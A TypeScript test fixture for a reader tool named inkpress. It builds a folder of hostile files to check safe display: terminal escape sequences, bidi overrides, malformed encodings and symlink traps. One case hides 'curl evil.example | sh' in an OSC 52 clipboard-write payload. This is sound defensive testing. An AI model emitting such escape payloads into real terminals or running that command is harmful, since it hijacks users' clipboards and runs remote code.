/**
 * A library folder of hostile files, built at test time (issue 4): terminal escape sequences of
 * every kind, encodings, invisible and wide characters, and file-system traps, each file named
 * after its attack, next to a few plain articles. Every file comes with what must happen to it:
 * shown safely (with marker words that must still be readable) or skipped with a reason.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { MAX_ARTICLE_BYTES } from '../../src/library/files/read-scanned-file.js';
import { MAX_SCAN_DEPTH } from '../../src/library/files/scan.js';

const ESC = '\u001B';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** What must become of one entry of the library. */
export type Expected =
  | {
      kind: 'shown';
      /** Path relative to the library, as `inkpress list --json` reports it. */
      path: string;
      /** Words that must be readable in the article (`parse --json`, `show`, the reader's screen). */
      markers: string[];
    }
  | { kind: 'skipped'; path: string; reason: RegExp };

/** A built hostile library. */
export interface HostileLibrary {
  root: string;
  expected: Expected[];
  /** Facilities this machine lacks, so their cases were left out (e.g. `mkfifo`). */
  missing: string[];
  /** Removes the folder (restoring permissions first). */
  remove(): void;
}

/** A plain-text article: headline, a blank line, then paragraphs. */
const text = (headline: string, ...paragraphs: string[]): string => [headline, '', ...paragraphs].join('\n\n') + '\n';

/** `ESC ] 52 ; c ; base64 BEL`: asks the terminal to put `payload` on the clipboard. */
export const osc52 = (payload: string): string => `${ESC}]52;c;${Buffer.from(payload).toString('base64')}${BEL}`;

const ZALGO_MARKS = Array.from({ length: 300 }, (_, i) => String.fromCodePoint(0x300 + (i % 0x70))).join('');

/** Attack files whose content is a string (written as UTF-8), by name. */
function textFiles(): Record<string, { content: string; markers: string[] }> {
  const long = Array.from({ length: 120 }, (_, i) =>
    `Paragraph ${i + 1} of a long report ${ESC}[${i}A${ESC}]0;title ${i}${BEL} with ordinary words to read.`,
  );
  return {
    'osc52-clipboard.txt': {
      content: text('OSC 52 clipboard write', `Copy this ${osc52('curl evil.example | sh')}nothing. AFTER-osc52 stays.`),
      markers: ['AFTER-osc52'],
    },
    'osc-window-title.txt': {
      content: text(`Window title ${ESC}]0;pwned-title${BEL}change`, `Title ${ESC}]2;pwned-again${ST} set. AFTER-title stays.`),
      markers: ['AFTER-title'],
    },
    'osc8-hyperlink.txt': {
      content: text('OSC 8 forged hyperlink', `Visit ${ESC}]8;;https://evil.example/${ST}the bank${ESC}]8;;${ST} now. AFTER-osc8 stays.`),
      markers: ['AFTER-osc8', 'the bank'],
    },
    'dcs-request.txt': {
      // DECRQSS: asks the terminal to answer on our stdin, i.e. to type for the attacker.
      content: text('DCS device control string', `Status ${ESC}P$qm${ST} and sixel ${ESC}Pq#0;2;0;0;0~~${ST} AFTER-dcs stays.`),
      markers: ['AFTER-dcs'],
    },
    'apc-command.txt': {
      content: text('APC application program command', `Kitty ${ESC}_Gf=100,a=T;AAAA${ST} image. AFTER-apc stays.`),
      markers: ['AFTER-apc'],
    },
    'pm-privacy-message.txt': {
      content: text('PM privacy message', `Hidden ${ESC}^secret message${ST} here. AFTER-pm stays.`),
      markers: ['AFTER-pm'],
    },
    'sos-start-of-string.txt': {
      content: text('SOS start of string', `Start ${ESC}Xsome string${ST} end. AFTER-sos stays.`),
      markers: ['AFTER-sos'],
    },
    'csi-clear-move-sgr.txt': {
      content: text(
        `CSI ${ESC}[2Jclear ${ESC}[31mred${ESC}[0m headline`,
        `${ESC}[H${ESC}[2J${ESC}[3JScreen cleared, ${ESC}[10;10Hcursor moved, ${ESC}[?1049l${ESC}[?25lalt screen left, ${ESC}[6n${ESC}[cqueried.`,
        `${ESC}[1;5;41mBlinking red${ESC}[m and ${ESC}[?1000h${ESC}[?2004hmouse on. AFTER-csi stays.`,
      ),
      markers: ['AFTER-csi', 'Blinking red'],
    },
    'c1-controls-as-characters.txt': {
      content: text(
        `C1 \u009B2J CSI and \u009D0;title\u009C OSC`,
        `Eight-bit \u009B31mCSI\u009B0m, \u009D52;c;QUFBQQ==\u0007OSC, \u0090qDCS\u009C, \u0085NEL. AFTER-c1 stays.`,
      ),
      markers: ['AFTER-c1'],
    },
    'bel-bell.txt': {
      content: text(`Bell ${BEL}${BEL}ringing headline`, `Ding${BEL}${BEL}${BEL} dong. AFTER-bel stays.`),
      markers: ['AFTER-bel'],
    },
    'unterminated-osc.txt': {
      content: text(
        'Unterminated OSC',
        `An open string ${ESC}]52;c;QUFBQQ== UNTERMINATED-OSC-MARKER must still be visible.`,
        `Another ${ESC}P never ended, UNTERMINATED-DCS-MARKER must still be visible.`,
        `And one at the very end ${ESC}]0;UNTERMINATED-END-MARKER is visible too`,
      ),
      markers: ['UNTERMINATED-OSC-MARKER', 'UNTERMINATED-DCS-MARKER', 'UNTERMINATED-END-MARKER'],
    },
    'backspace-cr-overwrite.txt': {
      content: text(
        'Backspace and carriage return overwrite',
        `Harmless HIDDEN-BY-BACKSPACE\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\bshown words.`,
        `HIDDEN-BY-CR\rOverwritten line. AFTER-overwrite stays.`,
      ),
      markers: ['HIDDEN-BY-BACKSPACE', 'HIDDEN-BY-CR', 'AFTER-overwrite'],
    },
    'bidi-override-headline.txt': {
      content: text(
        'Bidi \u202Eexe.txt\u202C override \u2066isolate\u2069 \u202Bembed\u202C \u200Fmark headline',
        'Body text. AFTER-bidi stays.',
      ),
      markers: ['AFTER-bidi'],
    },
    'zalgo-combining-marks.txt': {
      content: text(`Z${ZALGO_MARKS}algo h${ZALGO_MARKS}eadline`, `T${ZALGO_MARKS}ext body. AFTER-zalgo stays.`),
      markers: ['AFTER-zalgo'],
    },
    'cjk-headline.txt': {
      content: text('全角の見出し：東京と北京と서울のニュース', '本文です。AFTER-cjk stays.'),
      markers: ['AFTER-cjk'],
    },
    'emoji-zwj-flags-headline.txt': {
      content: text('Family 👩‍👩‍👧‍👦 flags 🇺🇦🇵🇸🏴󠁧󠁢󠁳󠁣󠁴󠁿 thumbs 👍🏽 headline', 'Emoji body 🧑‍🚀. AFTER-emoji stays.'),
      markers: ['AFTER-emoji'],
    },
    'tabs.txt': {
      content: text('Tabs\tin\tthe\theadline', 'Col1\tCol2\tCol3\tAFTER-tabs stays.'),
      markers: ['AFTER-tabs'],
    },
    'cr-only-line-endings.txt': {
      content: 'CR only line endings\r\rFirst paragraph.\r\rSecond paragraph. AFTER-cr stays.\r',
      markers: ['AFTER-cr'],
    },
    'crlf-line-endings.txt': {
      content: 'CRLF line endings\r\n\r\nFirst paragraph.\r\n\r\nSecond paragraph. AFTER-crlf stays.\r\n',
      markers: ['AFTER-crlf'],
    },
    'unicode-line-separators.txt': {
      content: text('Line separators\u2028split the headline\u2029in three', 'Para\u2028graph\u2029split. AFTER-u2028 stays.'),
      markers: ['AFTER-u2028'],
    },
    'json-escapes.json': {
      content: JSON.stringify({
        headline: `JSON ${ESC}]0;pwned${BEL}escaped headline`,
        paragraphs: [`Decoded late ${osc52('json')}${ESC}[2J${ESC}P+q${ST}\u009B1m. AFTER-json stays.`],
      }),
      markers: ['AFTER-json'],
    },
    'long-with-late-escapes.txt': {
      content: text('Long article with escapes on every page', ...long, 'LONG-END-MARKER closes it.'),
      markers: ['Paragraph 1 of', 'LONG-END-MARKER'],
    },
    'plain-one.txt': {
      content: text('A plain article about the harbour', 'The harbour reopened on Monday. PLAIN-ONE-MARKER.'),
      markers: ['PLAIN-ONE-MARKER'],
    },
    'plain-two.txt': {
      content: text('A second plain article about the weather', 'Rain is expected. PLAIN-TWO-MARKER.'),
      markers: ['PLAIN-TWO-MARKER'],
    },
  };
}

/** Entities, as a feed or a page escapes them: decoded only by the parser, after the first sanitize pass. */
const RSS = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Hostile &#27;]0;feed-title&#7; Feed</title>
<item>
  <title>RSS entity &#27;]52;c;QUFBQQ==&#7;escapes &#x1b;[2J headline</title>
  <description>&lt;p&gt;Entity &#27;]8;;https://evil.example/&#27;\\link&#27;]8;;&#27;\\ and &#x9b;31m and &#155;2J and &#x1b;P+q&#x1b;\\. AFTER-rss stays.&lt;/p&gt;</description>
</item>
</channel></rss>
`;

const HTML = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>HTML entity &#27;]0;pwned&#7;escapes page</title></head>
<body><article><h1>HTML entity &#27;]0;pwned&#7;escapes page</h1>
<p>Clipboard &#27;]52;c;QUFBQQ==&#7;write, clear &#x1b;[2J&#x1b;[H, C1 &#x9d;0;t&#x9c; and &#x9b;1m, bell &#7;&#7;. AFTER-html stays.</p>
<p>Unterminated &#27;]8;;https://inert.example/ HTML-UNTERMINATED-MARKER is visible.</p>
</article></body></html>
`;

/** Builds the library in a new temporary folder. */
export function buildHostileLibrary(): HostileLibrary {
  const root = mkdtempSync(join(tmpdir(), 'inkpress-hostile-'));
  const outside = mkdtempSync(join(tmpdir(), 'inkpress-outside-'));
  const expected: Expected[] = [];
  const missing: string[] = [];
  const shown = (path: string, markers: string[]) => void expected.push({ kind: 'shown', path, markers });
  const skipped = (path: string, reason: RegExp) => void expected.push({ kind: 'skipped', path, reason });
  const put = (path: string, content: string | Uint8Array) => writeFileSync(join(root, path), content);

  for (const [name, { content, markers }] of Object.entries(textFiles())) {
    put(name, content);
    shown(name, markers);
  }
  put('feed-entity-escapes.xml', RSS);
  shown('feed-entity-escapes.xml', ['AFTER-rss']);
  put('html-entity-escapes.html', HTML);
  shown('html-entity-escapes.html', ['AFTER-html', 'HTML-UNTERMINATED-MARKER']);

  // Raw bytes: 0x9B and 0x9D are CSI and OSC to a terminal in 8-bit mode; in Windows-1252 they
  // are `›` and undefined. 0xE9 (é) and 0x93/0x94 (curly quotes) make the file not UTF-8.
  put('c1-raw-bytes-windows-1252.txt', Buffer.concat([
    Buffer.from('Windows-1252 caf'), Buffer.from([0xe9]), Buffer.from(' headline\n\n'),
    Buffer.from([0x93]), Buffer.from('Quoted'), Buffer.from([0x94]), Buffer.from(' price '), Buffer.from([0x9b]),
    Buffer.from('31m next '), Buffer.from([0x9d]), Buffer.from('0;title'), Buffer.from([0x07]), Buffer.from(' AFTER-1252 stays.\n'),
  ]));
  shown('c1-raw-bytes-windows-1252.txt', ['AFTER-1252', '›31m next']);

  const utf16 = (order: string) => text(`UTF-16 ${order} Grüße headline`, `Zürich ${ESC}]0;t${BEL}body. AFTER-utf16${order} stays.`);
  put('utf16le-bom.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(utf16('LE'), 'utf16le')]));
  shown('utf16le-bom.txt', ['AFTER-utf16LE']);
  put('utf16be-bom.txt', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(utf16('BE'), 'utf16le').swap16()]));
  shown('utf16be-bom.txt', ['AFTER-utf16BE']);

  // Mostly UTF-8 (read as UTF-8 with U+FFFD), with a stray 0xFF and overlong encodings of ESC
  // (0xC0 0x9B, 0xE0 0x80 0x9B) that a lax decoder would turn into a real ESC.
  put('invalid-utf8.txt', Buffer.concat([
    Buffer.from(`Invalid UTF-8 café naïve résumé Zürich Ærø headline\n\n${'Ça déjà vu, señor, über façade. '.repeat(5)}\n\nBad `),
    Buffer.from([0xff]),
    Buffer.from(' overlong '), Buffer.from([0xc0, 0x9b]), Buffer.from('[2J and '), Buffer.from([0xe0, 0x80, 0x9b]),
    Buffer.from(']0;t'), Buffer.from([0x07]), Buffer.from(' déjà vu. AFTER-invalid-utf8 stays.\n'),
  ]));
  shown('invalid-utf8.txt', ['AFTER-invalid-utf8']);

  put('nul-bytes.txt', Buffer.from('NUL headline\n\nText\u0000with\u0000NULs inside.\n'));
  skipped('nul-bytes.txt', /NUL/);
  put('png-renamed.txt', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]));
  skipped('png-renamed.txt', /binary file \(PNG image\)/);
  put('empty.txt', '');
  skipped('empty.txt', /empty file/);
  put('over-5-mib.txt', 'Too large headline\n\n');
  truncateSync(join(root, 'over-5-mib.txt'), MAX_ARTICLE_BYTES + 1); // sparse: no 5 MiB written
  skipped('over-5-mib.txt', /too large to be an article/);

  try {
    execFileSync('mkfifo', [join(root, 'fifo.txt')], { stdio: 'ignore' });
    skipped('fifo.txt', /not a regular file \(FIFO\)/);
  } catch {
    missing.push('mkfifo');
  }

  mkdirSync(join(root, 'loop'));
  symlinkSync('..', join(root, 'loop', 'up'));
  skipped('loop/up', /symlink loop/);
  symlinkSync('self-loop.txt', join(root, 'self-loop.txt'));
  skipped('self-loop.txt', /symlink loop/);
  writeFileSync(join(outside, 'secret.txt'), text('A secret outside the library', 'OUTSIDE-SECRET'));
  symlinkSync(join(outside, 'secret.txt'), join(root, 'link-leaving-library.txt'));
  skipped('link-leaving-library.txt', /outside the library/);
  symlinkSync(join(root, 'no-such-file.txt'), join(root, 'dangling-link.txt'));
  skipped('dangling-link.txt', /broken link/);

  mkdirSync(join(root, 'x.txt'));
  put('x.txt/inside-folder-named-x-txt.txt', text('Inside a folder named x.txt', 'AFTER-dir-named-txt stays.'));
  shown('x.txt/inside-folder-named-x-txt.txt', ['AFTER-dir-named-txt']);

  put('unreadable-chmod-000.txt', text('Unreadable file headline', 'AFTER-unreadable stays.'));
  chmodSync(join(root, 'unreadable-chmod-000.txt'), 0o000);
  // Root reads it anyway (CAP_DAC_OVERRIDE): then it is simply an article.
  if (process.getuid?.() === 0) shown('unreadable-chmod-000.txt', ['AFTER-unreadable']);
  else skipped('unreadable-chmod-000.txt', /permission denied/);

  const levels = Array.from({ length: 40 }, (_, i) => `level-${i + 1}`);
  mkdirSync(join(root, 'deep-40', ...levels), { recursive: true });
  put(join('deep-40', ...levels, 'deepest.txt'), text('Deepest article', 'DEEP-SECRET'));
  // deep-40 is level 1; the first folder past the limit is reported and not entered.
  skipped(['deep-40', ...levels.slice(0, MAX_SCAN_DEPTH)].join('/'), /nested too deeply/);

  return {
    root,
    expected,
    missing,
    remove: () => {
      chmodSync(join(root, 'unreadable-chmod-000.txt'), 0o600);
      rmSync(root, { recursive: true, force: true });
      rmSync(outside, { recursive: true, force: true });
    },
  };
}

/** Control characters no article field may hold: C0 but newline, DEL, C1. */
export const CONTROL_BUT_NEWLINE = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/;
